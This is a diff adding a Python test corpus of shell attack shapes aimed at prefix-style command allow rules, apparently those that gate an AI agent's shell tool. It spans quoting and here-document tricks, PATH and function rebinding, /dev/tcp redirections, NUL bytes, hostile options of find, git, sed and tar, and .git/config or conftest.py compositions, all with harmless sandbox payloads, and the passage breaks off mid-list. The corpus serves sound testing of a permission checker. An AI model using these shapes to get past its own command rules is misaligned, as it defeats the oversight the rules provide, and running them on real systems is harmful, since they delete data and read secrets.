@@ -1,0 +1,800 @@
+"""Attack shapes against prefix-style shell rules, each with what a real shell does with it.
+
+Every entry is proven, not believed: tests/shell_oracle/test_attack_corpus.py runs it in
+the real shell inside the sandbox (tests/shell_oracle/sandbox.py) and asserts that the
+`effect` happens and that the script does something the rules, applied literally, do
+not allow; then asserts that the engine never says ALWAYS for it. An entry whose
+effect a real shell does not produce is fixed or removed, never kept.
+
+Payloads are harmless markers: `touch /workspace/PWNED`, `rm -rf /workspace/victim`
+(a folder the sandbox's fixture provides), writes to /etc, /root or /home (refused
+with EROFS in the sandbox, yet the attempt is in the trace), reads of /etc/hostname
+or /etc/passwd, and connections to 127.0.0.1 (there is no network). The fixture's
+/workspace/bin holds planted programs (`ls`, `cat`, `git`, `echo`, `pre-commit`) that
+touch /workspace/PWNED: what an agent allowed to write in the workspace could have
+left there.
+
+`policy` names the policy of tests/shell_corpus/policies.py the attack is aimed at:
+`review` (the outside review's) or `benign` (which also admits sed, sort, awk, tee,
+make, git subcommands, ...: the acting options of those programs need it).
+"""
+
+import shlex
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True)
+class Effect:
+    """What the real shell does: `kind` is one of the oracle's kinds (oracle.Kind)."""
+
+    kind: str
+    subject: str
+
+    def __str__(self) -> str:
+        return f"{self.kind}: {self.subject}"
+
+
+@dataclass(frozen=True)
+class Attack:
+    script: str
+    klass: str
+    effect: Effect
+    shell: str = "bash"  # bash, sh (dash) or zsh
+    policy: str = "review"
+    stdin: bool = False  # fed on standard input (a NUL byte cannot travel in argv)
+
+    @property
+    def id(self) -> str:
+        return f"{self.shell}/{self.policy}:{self.script!r}"
+
+
+def ran(command: str) -> Effect:
+    return Effect("program run", command)
+
+
+def wrote(path: str) -> Effect:
+    return Effect("file written", path)
+
+
+def read(path: str) -> Effect:
+    return Effect("file read", path)
+
+
+def child(command: str) -> Effect:
+    return Effect("child process", command)
+
+
+SOCKET = Effect("socket", "")
+
+TOUCH = "touch /workspace/PWNED"
+RM = "rm -rf /workspace/victim"
+PAYLOADS = ((TOUCH, ran(TOUCH)), (RM, ran(RM)))
+# A planted /workspace/bin program ran and touched the marker (by its full path, so a PATH
+# the script changed cannot stop it).
+PLANTED = child("/usr/bin/touch /workspace/PWNED")
+
+ATTACKS: list[Attack] = []
+
+
+def _add(klass: str, script: str, effect: Effect, **options) -> None:
+    attack = Attack(script, klass, effect, **options)
+    if all(attack.id != known.id for known in ATTACKS):  # a shape already in keeps its class
+        ATTACKS.append(attack)
+
+
+# -- single quotes are literal inside "${x:-…}": the substitution runs -------------------
+QUOTED_DEFAULT = "quotes in ${x:-…}"
+for template in (
+    """echo "${x:-'$(%s)'}\"""",
+    """echo "${x-'$(%s)'}\"""",
+    """echo "${x:='$(%s)'}\"""",
+    """echo "${x='$(%s)'}\"""",
+    """x=1; echo "${x:+'$(%s)'}\"""",
+    """x=1; echo "${x+'$(%s)'}\"""",
+    """echo "${x:-'`%s`'}\"""",
+    """ls "${x:-'$(%s)'}\"""",
+    """cat "${x:-'$(%s)'}\"""",
+    """grep -r "${x:-'$(%s)'}" /workspace/src""",
+    """echo "a${x:-'$(%s)'}b\"""",
+    """echo "${x:-"${y:-'$(%s)'}"}\"""",
+    """echo hi > "/workspace/${x:-'$(%s)'}\"""",
+):
+    for payload, effect in PAYLOADS:
+        _add(QUOTED_DEFAULT, template % payload, effect)
+        _add(QUOTED_DEFAULT, template % payload, effect, shell="sh")
+
+# -- $'…' inside ${…}: bash reads the ANSI-C quote, and what follows is outside quotes ----
+ANSI_C_IN_EXPANSION = "$'…' in ${…}"
+for template in (
+    r"""echo ${x:-$'\'' $(%s) \'}""",
+    r"""echo ${x-$'\'' $(%s) \'}""",
+    r"""echo ${x:=$'\'' $(%s) \'}""",
+    r"""ls ${x:-$'\'' $(%s) \'}""",
+    r"""echo ${x:-$'\'' `%s` \'}""",
+    r"""echo ${x:-$'\x27' $(%s) $'\x27'}""",
+    r"""cat ${x:-$'\'' $(%s)}""",
+):
+    for payload, effect in PAYLOADS:
+        _add(ANSI_C_IN_EXPANSION, template % payload, effect)
+
+# -- backslash-newline joins lines before anything else is read -------------------------
+CONTINUATION = "backslash-newline"
+for template in (
+    '"$\\\n(%s)"',
+    'echo "$\\\n(%s)"',
+    "echo $\\\n(%s)",
+    'echo "$\\\n{x:-$\\\n(%s)}"',
+    "echo $(\\\n%s)",
+    "echo $\\\n(\\\n%s\\\n)",
+    'echo "${x:-\\\n$(%s)}"',
+    "ls -la # \\\n%s",
+    "echo x \\\\\n%s",
+    "ls -la \\\n&& %s",
+    "e\\\ncho $\\\n(%s)",
+):
+    for payload, effect in PAYLOADS:
+        _add(CONTINUATION, template % payload, effect)
+        _add(CONTINUATION, template % payload, effect, shell="sh")
+_add(CONTINUATION, "r\\\nm -rf /workspace/victim", ran(RM))
+_add(CONTINUATION, "ec\\\nho x; r\\\nm -rf /workspace/victim", ran(RM))
+_add(CONTINUATION, "echo x >\\\n/etc/fluidbox-x", wrote("/etc/fluidbox-x"))
+_add(CONTINUATION, "ec\\\nho x > /etc/fluidbox-x", wrote("/etc/fluidbox-x"))
+_add(CONTINUATION, "$\\\n'\\x74ouch' /workspace/PWNED", ran(TOUCH))
+
+# -- here-documents opened inside $( and <(: the lines after them are commands ------------
+HERE_DOCUMENT = "here-document in $( or <("
+for template in (
+    "echo $(cat <<E\nE\n)\n%s\n",
+    'echo "$(cat <<E\nx\nE\n)"; %s\n',
+    "cat <(cat <<E\nE\n)\n%s\n",
+    "cat <(cat <<'E'\nE\n); %s\n",
+    "echo $(cat <<E\n$(%s)\nE\n)\n",
+    "ls <(cat <<E\nE\n) && %s\n",
+    "echo `cat <<E\nE\n`\n%s\n",
+    "x=$(cat <<-E\n\tE\n)\n%s\n",
+    "cat <<E\n$(%s)\nE\n",
+    'cat <<"E"\nfoo\nE\n%s\n',
+    "cat <<E; %s\nbody\nE\n",
+    "cat <<E\n`%s`\nE\n",
+    "echo $(cat <<E) x\nE\n%s\n",
+):
+    for payload, effect in PAYLOADS:
+        _add(HERE_DOCUMENT, template % payload, effect)
+        if "<(" not in template:
+            _add(HERE_DOCUMENT, template % payload, effect, shell="sh")
+
+# -- for x do …: no `in` word, the loop runs over the positional parameters ----------------
+FOR_WITHOUT_IN = "for without in"
+for template in (
+    "sh -c 'for x do %s; done' sh 1",
+    "bash -c 'for x do %s; done' bash 1",
+    "set -- 1; for x do %s; done",
+    "set -- a; for x; do %s; done",
+    "set -- a\nfor x\ndo %s\ndone",
+    "f() { for x do %s; done; }; f 1",
+    "set 1; for x do %s; done",
+    "sh -c 'for x do %s; done' - 1",
+):
+    for payload, effect in PAYLOADS:
+        _add(FOR_WITHOUT_IN, template % payload, effect)
+        if not template.startswith("f()"):
+            _add(FOR_WITHOUT_IN, template % payload, effect, shell="sh")
+
+# -- arithmetic contexts evaluate array subscripts, and the subscripts substitute ------------
+ARITHMETIC = "arithmetic evaluation"
+for template in (
+    "for y in 'a[$(%s)]'; do echo ${PATH:y}; done",
+    "y='a[$(%s)]'; echo ${PATH:y}",
+    "y='a[$(%s)]'; echo ${PATH:0:y}",
+    "x='a[$(%s)]'; echo $((x))",
+    "x='a[$(%s)]'; echo $[x]",
+    "x='a[$(%s)]'; (( x ))",
+    "x='a[$(%s)]'; let x",
+    "x='a[$(%s)]'; a=(1); echo ${a[x]}",
+    "test -v 'a[$(%s)]'",
+    "[ -v 'a[$(%s)]' ]",
+    "x='a[$(%s)]'; [[ $x -eq 0 ]]",
+    "printf -v 'a[$(%s)]' x",
+    "read 'a[$(%s)]' <<< x",
+    "x='a[$(%s)]'; declare -i y=x",
+    "x='a[$(%s)]'; echo $((x+1))",
+    "x='a[$(%s)]'; echo ${x:x}",
+    "declare -n r='a[$(%s)]'; echo $r",
+):
+    for payload, effect in PAYLOADS:
+        _add(ARITHMETIC, template % payload, effect)
+
+# -- a loop variable, an assignment or a function rebinds what a name runs ---------------
+REBINDING = "rebinding names"
+for script in (
+    "for PATH in /workspace/bin; do ls; done",
+    "for PATH in /workspace/bin; do ls -la; done",
+    "for PATH in /workspace/bin; do cat /workspace/notes.txt; done",
+    "for PATH in /workspace/bin; do git status; done",
+    "PATH=/workspace/bin ls",
+    "PATH=/workspace/bin:$PATH ls -la",
+    "export PATH=/workspace/bin; ls",
+    "PATH=/workspace/bin; ls",
+    "hash -p /workspace/bin/ls ls; ls",
+    "read PATH <<< /workspace/bin; ls",
+    "printf -v PATH /workspace/bin; ls",
+    "declare PATH=/workspace/bin; ls",
+    "IFS=: read PATH x <<< /workspace/bin:y; ls",
+    "exec -a ls /workspace/bin/ls",
+    "/workspace/bin/ls -la",
+    "/workspace/bin/git status",
+):
+    _add(REBINDING, script, ran("/workspace/bin/"))
+for script, command in (
+    ("cd /workspace/bin; ./ls", "./ls"),
+    ("./bin/ls", "./bin/ls"),
+    ("bin/cat /workspace/notes.txt", "bin/cat"),
+    ("cd bin && ./git status", "./git status"),
+    ("cd /workspace/bin && PATH=. ls", "./ls"),
+):
+    _add(REBINDING, script, ran(command))
+for script in (
+    "for PATH in /workspace/bin; do ls; done",
+    "PATH=/workspace/bin ls",
+    "export PATH=/workspace/bin; ls",
+    "PATH=/workspace/bin:$PATH cat /workspace/notes.txt",
+):
+    _add(REBINDING, script, ran("/workspace/bin/"), shell="sh")
+    _add(REBINDING, script, ran("/workspace/bin/"), shell="zsh")
+for template in (
+    "ls() { %s; }; ls",
+    "function ls { %s; }; ls -la",
+    "cat() { %s; }; cat x",
+    "echo() { %s; }; echo hi",
+    "git() { %s; }; git status",
+    "shopt -s expand_aliases\nalias ls='%s'\nls\n",
+    "command_not_found_handle() { %s; }; nosuchprogram",
+    "trap '%s' EXIT; ls",
+    "trap '%s' DEBUG; ls",
+    "trap '%s' ERR; ls /nonexistent",
+):
+    for payload, effect in PAYLOADS:
+        _add(REBINDING, template % payload, effect)
+_add(REBINDING, "ls() { touch /workspace/PWNED; }; ls", ran(TOUCH), shell="sh")
+_add(REBINDING, "trap 'touch /workspace/PWNED' EXIT; ls", ran(TOUCH), shell="sh")
+
+# -- a shell reading its script from standard input reads the last redirection ------------
+SHELL_STDIN = "shell stdin"
+for template in (
+    "bash <<< 'echo ok' < <(echo '%s')",
+    "bash < <(echo '%s')",
+    "echo '%s' | bash",
+    "echo '%s' | sh",
+    "echo '%s' | bash -s",
+    "bash -s <<< '%s'",
+    "sh <<< '%s'",
+    "bash <<E\n%s\nE\n",
+    "sh <<'E'\n%s\nE\n",
+    "bash /dev/stdin <<< '%s'",
+    "echo '%s' > /workspace/s.sh; bash /workspace/s.sh",
+    "echo '%s' > /workspace/s.sh; sh /workspace/s.sh",
+    "echo '%s' > /workspace/s.sh; . /workspace/s.sh",
+    "echo '%s' > /workspace/s.sh; source /workspace/s.sh",
+    "bash -c 'read l; eval $l' <<< '%s'",
+    "echo '%s' | zsh",
+):
+    for payload, effect in PAYLOADS:
+        _add(SHELL_STDIN, template % payload, effect)
+_add(SHELL_STDIN, "echo 'touch /workspace/PWNED' | bash", ran(TOUCH), shell="sh")
+_add(SHELL_STDIN, "sh <<E\ntouch /workspace/PWNED\nE\n", ran(TOUCH), shell="sh")
+
+# -- start-up files: a shell runs them before its -c script --------------------------------
+STARTUP = "start-up files"
+for template in (
+    "bash --rcfile <(echo '%s') -ic 'echo ok'",
+    "bash --init-file <(echo '%s') -i -c 'echo ok'",
+    "BASH_ENV=<(echo '%s') bash -c 'echo ok'",
+    "echo '%s' > /workspace/rc; BASH_ENV=/workspace/rc bash -c 'echo ok'",
+    "env BASH_ENV=<(echo '%s') bash -c :",
+    "ENV=<(echo '%s') sh -i -c 'echo ok'",
+    "echo '%s' > /workspace/.bashrc; HOME=/workspace bash -i -c 'echo ok'",
+    "echo '%s' > /workspace/.profile; HOME=/workspace bash -l -c 'echo ok'",
+    "echo '%s' > /workspace/.zshenv; ZDOTDIR=/workspace zsh -c 'echo ok'",
+    "echo '%s' > /workspace/.profile; HOME=/workspace sh -l -c 'echo ok'",
+):
+    for payload, effect in PAYLOADS:
+        _add(STARTUP, template % payload, effect)
+for script, path in (
+    ("bash -l -c 'echo ok'", "/etc/profile"),
+    ("bash --login -c 'echo ok'", "/etc/profile"),
+    ("bash -i -c 'echo ok'", "/etc/bash.bashrc"),
+    ("bash -ic 'ls'", "/etc/bash.bashrc"),
+    ("sh -l -c 'echo ok'", "/etc/profile"),
+    ("zsh -i -c 'echo ok'", "/etc/zsh/zshrc"),
+    ("zsh -l -c 'echo ok'", "/etc/zsh/zprofile"),
+):
+    _add(STARTUP, script, read(path))
+_add(
+    STARTUP,
+    "echo 'touch /workspace/PWNED' > rc; ENV=/workspace/rc sh -i -c :",
+    ran(TOUCH),
+    shell="sh",
+)
+_add(
+    STARTUP, "bash --rcfile <(echo 'touch /workspace/PWNED') -ic 'echo ok'", ran(TOUCH), shell="zsh"
+)
+
+# -- file descriptors beyond 0-2, and the shells' network paths -----------------------------
+FD = "fd redirections"
+for script in (
+    "cat /etc/hostname 3<>/dev/tcp/127.0.0.1/9 >&3",
+    "exec 3<>/dev/tcp/127.0.0.1/9",
+    "echo x > /dev/tcp/127.0.0.1/9",
+    "echo x > /dev/udp/127.0.0.1/9",
+    "ls > /dev/tcp/10.0.0.1/80",
+    "cat < /dev/tcp/127.0.0.1/9",
+    "ls 2>/dev/tcp/127.0.0.1/9",
+    "ls 0</dev/tcp/127.0.0.1/9",
+    "exec {s}<>/dev/tcp/127.0.0.1/9",
+    "echo hi >/dev/tcp/localhost/9",
+    "cat /workspace/notes.txt > /dev/tcp/127.0.0.1/443",
+    "ls -la 3</dev/tcp/127.0.0.1/9",
+):
+    _add(FD, script, SOCKET)
+for script, path in (
+    ("ls 3>/etc/fluidbox-x", "/etc/fluidbox-x"),
+    ("ls 4>>/etc/fluidbox-x", "/etc/fluidbox-x"),
+    ("ls 9>/root/.bashrc", "/root/.bashrc"),
+    ("ls {fd}>/etc/fluidbox-x", "/etc/fluidbox-x"),
+    ("exec 5>/etc/fluidbox-x", "/etc/fluidbox-x"),
+    ("ls 3<>/etc/fluidbox-x", "/etc/fluidbox-x"),
+    ("ls >&/etc/fluidbox-x", "/etc/fluidbox-x"),
+    ("ls 2>&1 3>/etc/fluidbox-x", "/etc/fluidbox-x"),
+    ("echo x 1>/etc/fluidbox-x", "/etc/fluidbox-x"),
+    ("ls 10>/etc/fluidbox-x", "/etc/fluidbox-x"),
+    ("ls 3>/workspace/../etc/fluidbox-x", "/etc/fluidbox-x"),
+):
+    _add(FD, script, wrote(path))
+    if "{" not in script and ">&/" not in script:
+        _add(FD, script, wrote(path), shell="sh")
+_add(FD, "echo x > /dev/tcp/127.0.0.1/9", wrote("/dev/tcp/127.0.0.1/9"), shell="sh")
+
+# -- a NUL byte: bash cuts a string at it, a shell reading stdin skips it --------------------
+NUL = "NUL byte"
+for script, path in (
+    (r"echo x > $'/etc/passwd\0/../../workspace/x'", "/etc/passwd"),
+    (r"echo x >> $'/etc/hosts\0.txt'", "/etc/hosts"),
+    (r"ls > $'/root/.bashrc\0/../workspace/y'", "/root/.bashrc"),
+    (r"cat /workspace/notes.txt > $'/etc/fluidbox-x\0'", "/etc/fluidbox-x"),
+    (r"echo x > $'/etc/fluidbox-x\x00y'", "/etc/fluidbox-x"),
+    (r"echo x > $'/etc/fluidbox-x\c@/../../workspace/y'", "/etc/fluidbox-x"),
+    (r"echo x > $'/etc/fluidbox-x\00/../workspace/z'", "/etc/fluidbox-x"),
+):
+    _add(NUL, script, wrote(path))
+for script, effect in (
+    ("ls -la\0; rm -rf /workspace/victim\n", ran(RM)),
+    ("echo ok\0\nrm -rf /workspace/victim\n", ran(RM)),
+    ("ls\0 && touch /workspace/PWNED\n", ran(TOUCH)),
+    ("ls -la \0> /etc/fluidbox-x\n", wrote("/etc/fluidbox-x")),
+    ("echo \0$(touch /workspace/PWNED)\n", ran(TOUCH)),
+):
+    _add(NUL, script, effect, stdin=True)
+    _add(NUL, script, effect, stdin=True, shell="sh")
+
+# -- dialects: dash and zsh read the same bytes differently from bash ------------------------
+DIALECT = "dialects"
+for template in (
+    r"echo $'\' ; %s ; #'",
+    r"ls $'\' ; %s ; #'",
+    r"echo $'\' && %s ; #'",
+    r"cat $'\'; %s #'",
+):
+    for payload, effect in PAYLOADS:
+        _add(DIALECT, template % payload, effect, shell="sh")
+        _add(DIALECT, "sh -c " + shlex.quote(template % payload), effect)
+for template in (
+    "x='$(%s)'; echo ${(e)x}",
+    "echo ${(e):-'$(%s)'}",
+    "ls /workspace/*(e:'%s':)",
+    "ls -d /workspace/*(e:'%s':)",
+    "echo =(%s)",
+    "ls =(%s)",
+    "x='$(%s)'; print -r -- ${(e)x}",
+    ": ${(e)${:-'$(%s)'}}",
+):
+    for payload, effect in PAYLOADS:
+        _add(DIALECT, template % payload, effect, shell="zsh")
+        _add(DIALECT, "zsh -c " + shlex.quote(template % payload), effect)
+_add(DIALECT, "=rm -rf /workspace/victim", ran("/usr/bin/rm -rf /workspace/victim"), shell="zsh")
+_add(DIALECT, "zsh -c '=rm -rf /workspace/victim'", ran("/usr/bin/rm -rf /workspace/victim"))
+
+# -- reads through < and $(< f): a read no read rule saw --------------------------------------
+READS = "reads through redirections"
+for script, path in (
+    ("cat < /etc/hostname", "/etc/hostname"),
+    ('echo "$(< /etc/hostname)"', "/etc/hostname"),
+    ("echo $(< /etc/passwd)", "/etc/passwd"),
+    ("grep root < /etc/passwd", "/etc/passwd"),
+    ("ls < /etc/shadow", "/etc/shadow"),
+    ("cat 0< /etc/os-release", "/etc/os-release"),
+    ("echo $(cat < /etc/hostname)", "/etc/hostname"),
+    ("cat < /workspace/../etc/hostname", "/etc/hostname"),
+    ("cat </etc/hostname", "/etc/hostname"),
+    ("cat <'/etc/hostname'", "/etc/hostname"),
+    ('cat < "/etc/"hostname', "/etc/hostname"),
+    ("source /etc/os-release", "/etc/os-release"),
+    (". /etc/os-release", "/etc/os-release"),
+    ("read x < /etc/hostname", "/etc/hostname"),
+    ("mapfile a < /etc/passwd", "/etc/passwd"),
+    ("exec < /etc/hostname; cat", "/etc/hostname"),
+    ("while read l; do echo $l; done < /etc/hostname", "/etc/hostname"),
+    ('grep x <<< "$(< /etc/hostname)"', "/etc/hostname"),
+    ("echo $(</etc/hostname)", "/etc/hostname"),
+    ("echo \"$(<'/etc/hostname')\"", "/etc/hostname"),
+    ("cat 3</etc/passwd <&3", "/etc/passwd"),
+    ("ls -la 2>&1 < /etc/hostname", "/etc/hostname"),
+    ("find /workspace -maxdepth 0 < /etc/passwd", "/etc/passwd"),
+    ("echo x | cat - < /etc/hostname", "/etc/hostname"),
+):
+    _add(READS, script, read(path))
+    if "$(<" not in script and "mapfile" not in script and "source" not in script:
+        _add(READS, script, read(path), shell="sh")
+_add(READS, "echo $(< /etc/hostname)", read("/etc/hostname"), shell="zsh")
+_add(READS, "cat < /etc/hostname", read("/etc/hostname"), shell="zsh")
+_add(READS, "ls <> /etc/hostname", wrote("/etc/hostname"))
+
+# -- options of admitted programs that write, delete or execute ------------------------------
+ACTING = "acting options"
+for script, effect in (
+    ("find /workspace -fprintf /root/.bashrc 'x'", wrote("/root/.bashrc")),
+    ("find /workspace -maxdepth 0 -fprint /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
+    ("find /workspace -fprint0 /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
+    ("find /workspace -fls /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
+    ("find -fprint /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
+    ("find / -maxdepth 0 -fprint /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
+    ("find /workspace -newer /workspace/README.md -fprint /root/x", wrote("/root/x")),
+    ("find /etc -maxdepth 1 -name hostname -delete", wrote("/etc/hostname")),
+    ("find /etc/hostname -delete", wrote("/etc/hostname")),
+    ("find /workspace/src -exec touch /workspace/PWNED \\;", child(TOUCH)),
+    ("find /workspace -maxdepth 0 -exec touch /workspace/PWNED {} +", child(TOUCH)),
+    ("find /workspace -maxdepth 0 -execdir touch /workspace/PWNED \\;", child(TOUCH)),
+    ("find /workspace/victim -exec rm -rf {} +", child(RM)),
+    ("find . -maxdepth 0 -exec sh -c 'touch /workspace/PWNED' \\;", child(TOUCH)),
+    ("find /workspace/src -name '*.md' -o -exec touch /workspace/PWNED \\;", child(TOUCH)),
+    ("find /workspace -maxdepth 1 -name README.md -execdir /workspace/bin/ls \\;", PLANTED),
+    ("git log --output=/root/.bashrc", wrote("/root/.bashrc")),
+    ("git log --output=/etc/fluidbox-x -1", wrote("/etc/fluidbox-x")),
+    ("git log -p --output=/root/x", wrote("/root/x")),
+    ("git log --oneline --output=/home/x", wrote("/home/x")),
+    ("python -m pytest --basetemp=/home/x tests", wrote("/home/x")),
+    ("python -m pytest --junitxml=/etc/fluidbox-x tests", wrote("/etc/fluidbox-x")),
+    ("python -m pytest --junit-xml=/root/x tests", wrote("/root/x")),
+    ("python -m pytest --log-file=/etc/fluidbox-x tests", wrote("/etc/fluidbox-x")),
+    ("python -m pytest -o cache_dir=/etc/fluidbox-x tests", wrote("/etc/fluidbox-x")),
+    ("python -m pytest --override-ini=cache_dir=/root/x tests", wrote("/root/x")),
+    ("python -m pytest --debug=/etc/fluidbox-x tests", wrote("/etc/fluidbox-x")),
+):
+    _add(ACTING, script, effect)
+for script, effect in (
+    ("git diff --output=/etc/fluidbox-x", wrote("/etc/fluidbox-x")),
+    ("git show --output=/root/x", wrote("/root/x")),
+    ("git grep -O'touch /workspace/PWNED' alpha", child(TOUCH)),
+    ("git grep --open-files-in-pager=/workspace/bin/ls alpha", PLANTED),
+    ("git fetch --upload-pack='touch /workspace/PWNED' /workspace", child(TOUCH)),
+    ("git --no-pager -c alias.st='!touch /workspace/PWNED' st", child(TOUCH)),
+    ("git --no-pager -c core.fsmonitor='touch /workspace/PWNED' status", child(TOUCH)),
+    ("sed -i s/a/b/ /etc/hostname", wrote("/etc/")),
+    ("sed -n 'w /etc/fluidbox-x' /workspace/notes.txt", wrote("/etc/fluidbox-x")),
+    ("sed 'e touch /workspace/PWNED' /workspace/notes.txt", child(TOUCH)),
+    ("sed '1e touch /workspace/PWNED' /workspace/notes.txt", child(TOUCH)),
+    ("sed 's/.*/touch \\/workspace\\/PWNED/e' /workspace/notes.txt", child(TOUCH)),
+    ("sed -n 's/a/b/w /etc/fluidbox-x' /workspace/notes.txt", wrote("/etc/fluidbox-x")),
+    ("sed --in-place=.bak s/a/b/ /etc/hostname", wrote("/etc/")),
+    ("sort -o /etc/fluidbox-x /workspace/notes.txt", wrote("/etc/fluidbox-x")),
+    ("sort --output=/root/x /workspace/notes.txt", wrote("/root/x")),
+    ("awk 'BEGIN{system(\"touch /workspace/PWNED\")}'", child(TOUCH)),
+    ("awk 'BEGIN{print 1 > \"/etc/fluidbox-x\"}'", wrote("/etc/fluidbox-x")),
+    ("awk 'BEGIN{\"touch /workspace/PWNED\" | getline}'", child(TOUCH)),
+    ('awk \'BEGIN{print "x" | "touch /workspace/PWNED"}\'', child(TOUCH)),
+    ("echo x | tee /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
+    ("tee -a /root/.bashrc < /workspace/notes.txt", wrote("/root/.bashrc")),
+    ("cp /workspace/notes.txt /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
+    ("mv /workspace/notes.txt /root/x", wrote("/root/x")),
+    ("mkdir /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
+    ("touch /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
+    ("cp -r /workspace/victim /home/x", wrote("/home/x")),
+    ("xxd /workspace/notes.txt /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
+    ("env rm -rf /workspace/victim", ran(RM)),
+    ("env -S 'rm -rf /workspace/victim'", ran(RM)),
+    ("make --eval='x:;@touch /workspace/PWNED' x", child(TOUCH)),
+    ("make -f /workspace/README.md --eval='x:;touch /workspace/PWNED' x", child(TOUCH)),
+    ("python -m compileall -f -q /usr/lib/python3/dist-packages/_pytest/_io", wrote("/usr/lib/")),
+    ("gcc -wrapper /workspace/bin/ls -x c /dev/null -c -o /workspace/a.o", PLANTED),
+    ("gcc -x c -c /dev/null -o /etc/fluidbox-x", wrote("/etc/fluidbox-x")),
+):
+    _add(ACTING, script, effect, policy="benign")
+for script, effect in (
+    ("echo /workspace/victim | xargs rm -rf", child(RM)),
+    ("tar cf /dev/null /workspace/notes.txt --checkpoint=1 "
+     "--checkpoint-action=exec='touch /workspace/PWNED'", child(TOUCH)),
+    ("rsync -e 'touch /workspace/PWNED' x:y /workspace/z", child("touch /workspace/PWNED")),
+    ("ssh -o ProxyCommand='touch /workspace/PWNED' x", child(TOUCH)),
+):  # fmt: skip
+    _add(ACTING, script, effect, policy="benign")
+
+# -- compositions: each part is allowed, together they do what no rule allows -----------------
+COMPOSITION = "compositions"
+FSMONITOR = (
+    "echo '[core]' >> /workspace/.git/config; echo '\tfsmonitor = %s' >> /workspace/.git/config"
+)
+for policy in ("review", "benign"):
+    for payload, effect in PAYLOADS:
+        effect = child(payload)
+        _add(COMPOSITION, f"{FSMONITOR % payload}; git status", effect, policy=policy)
+        _add(
+            COMPOSITION,
+            f"echo '[core]\n\tfsmonitor = \"{payload}\"' >> /workspace/.git/config && git status",
+            effect,
+            policy=policy,
+        )
+        _add(
+            COMPOSITION,
+            f"echo 'import os; os.system(\"{payload}\")' > /workspace/conftest.py; "
+            "python -m pytest -q tests",
+            effect,
+            policy=policy,
+        )
+        _add(
+            COMPOSITION,
+            f"echo 'import os; os.system(\"{payload}\")' > /workspace/tests/test_evil.py; "
+            "python -m pytest tests",
+            effect,
+            policy=policy,
+        )
+    _add(
+        COMPOSITION,
+        "echo 'import os; os.system(\"touch /workspace/PWNED\")' > /workspace/evil.py; "
+        "python -m pytest -p evil tests",
+        child(TOUCH),
+        policy=policy,
+    )
+    _add(
+        COMPOSITION,
+        "echo '[pytest]\naddopts = --basetemp=/home/x' > /workspace/pytest.ini; "
+        "python -m pytest tests",
+        wrote("/home/x"),
+        policy=policy,
+    )
+    _add(
+        COMPOSITION,
+        "echo 'touch /workspace/PWNED' > /workspace/s.sh; cd /workspace && find . -name s.sh "
+        "-exec sh {} \\;",
+        child(TOUCH),
+        policy=policy,
+    )
+for script, effect in (
+    ("mkdir -p '/workspace/--output=/etc/fluidbox-x' && cd /workspace && git log */*/*",
+     wrote("/etc/fluidbox-x")),
+    ("echo 'all:\n\ttouch /workspace/PWNED' > /workspace/Makefile; make", child(TOUCH)),
+    ("cd /workspace && echo '{\"scripts\":{\"test\":\"touch /workspace/PWNED\"}}' > "
+     "package.json && npm test", child(TOUCH)),
+    ("cd /workspace && git add notes.txt && echo x >> notes.txt && echo '[diff]' >> "
+     ".git/config && echo 'external = /workspace/bin/ls' >> .git/config && git diff", PLANTED),
+    ("cd /workspace && echo '* filter=x' > .gitattributes && echo '[filter \"x\"]' >> "
+     ".git/config && echo 'clean = touch /workspace/PWNED' >> .git/config && git add notes.txt",
+     child(TOUCH)),
+    ("cd /workspace && echo '[core]' >> .git/config && echo 'hooksPath = /workspace/bin' >> "
+     ".git/config && git commit --allow-empty -m x", PLANTED),
+    ("cd /workspace && echo '[core]' >> .git/config && echo 'editor = touch /workspace/PWNED' "
+     ">> .git/config && git commit --allow-empty", child(TOUCH)),
+    ("cd /workspace && echo '[alias]' >> .git/config && echo 'st = !touch /workspace/PWNED' "
+     ">> .git/config && git --no-pager st", child(TOUCH)),
+    ("cd /workspace && echo '[core]' >> .git/config && echo 'pager = touch /workspace/PWNED' "
+     ">> .git/config && git --no-pager log && git grep -O alpha", child(TOUCH)),
+    ("echo 'touch /workspace/PWNED' > /workspace/.bashrc; HOME=/workspace bash -i -c :",
+     ran(TOUCH)),
+):  # fmt: skip
+    _add(COMPOSITION, script, effect, policy="benign")
+
+# -- the shapes of the earlier bypass corpus (tests/governance/policy/bypass_corpus.yaml),
+# payloads pointed at the fixture (`rm -rf /` became `rm -rf /workspace/victim`); a shape
+# with which a real shell does nothing the rules forbid was dropped ----------------------
+BYPASS_CORPUS = {
+    "compound commands": (
+        ("ls; rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls;rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls && rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls&&rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls | rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls |& rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls & rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("rm -rf /workspace/victim &", ran("rm -rf /workspace/victim")),
+        ("! rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls | echo x | echo y | rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls -la ; rm -rf /workspace/victim ;", ran("rm -rf /workspace/victim")),
+    ),
+    "command substitution, process substitution, expansions": (
+        ("echo $(rm -rf /workspace/victim)", ran("rm -rf /workspace/victim")),
+        ('echo "$(rm -rf /workspace/victim)"', ran("rm -rf /workspace/victim")),
+        ("echo `rm -rf /workspace/victim`", ran("rm -rf /workspace/victim")),
+        ('echo "`rm -rf /workspace/victim`"', ran("rm -rf /workspace/victim")),
+        ("ls $(rm -rf /workspace/victim)", ran("rm -rf /workspace/victim")),
+        ('ls "$(echo "$(rm -rf /workspace/victim)")"', ran("rm -rf /workspace/victim")),
+        ("echo ${x:-$(rm -rf /workspace/victim)}", ran("rm -rf /workspace/victim")),
+        ('echo "${x:=$(rm -rf /workspace/victim)}"', ran("rm -rf /workspace/victim")),
